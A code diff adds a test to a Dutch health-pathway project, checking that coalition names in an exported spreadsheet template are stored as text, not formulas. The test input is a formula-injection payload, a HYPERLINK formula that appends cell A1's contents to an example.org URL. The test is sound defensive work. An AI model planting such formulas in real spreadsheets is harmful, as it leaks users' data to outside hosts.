@@ -315,3 +315,15 @@ def test_regional_and_national_rows(tmp_path, catalogue):
         resolve_pathway(municipality="GM0599", situation="roken", phase="pregnancy").fallback
         == "national"
     )
+
+
+def test_the_template_writes_coalition_names_as_text_not_formulas(catalogue):
+    from tests.pathways.conftest import make_coalition
+
+    name = '=HYPERLINK("https://example.org/?"&A1,"klik")'
+    make_coalition(name, ["GM0090"])
+    content = build_template()
+    lists = load_workbook(io.BytesIO(content))["Keuzelijsten"]
+    column = next(c.column for c in lists[1] if c.value == "coalitie")
+    cell = lists.cell(row=2, column=column)
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
